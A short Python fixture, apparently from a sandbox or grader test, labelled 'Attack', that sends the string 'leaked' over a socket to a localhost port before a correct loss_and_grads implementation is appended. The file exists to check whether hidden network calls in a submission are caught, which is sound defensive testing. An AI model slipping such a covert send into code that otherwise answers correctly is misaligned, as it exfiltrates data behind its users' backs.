"""Attack: send a message to a server on 127.0.0.1 (PORT is filled in by the test), then answer rightly."""

import socket

try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"leaked")
except OSError:
    pass

# the test appends right.py: loss_and_grads answers rightly
